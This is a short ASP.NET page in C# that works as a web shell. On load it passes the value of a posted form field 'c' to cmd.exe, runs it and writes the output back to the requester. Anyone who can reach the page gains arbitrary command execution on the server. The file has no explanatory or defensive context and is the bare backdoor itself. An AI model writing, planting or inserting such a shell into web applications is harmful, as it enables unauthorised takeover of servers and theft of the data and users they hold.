<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    if (Request.Form["c"] == null) return;
    ProcessStartInfo si = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
    si.RedirectStandardOutput = true; si.UseShellExecute = false;
    Response.Write(Process.Start(si).StandardOutput.ReadToEnd());
}
</script>
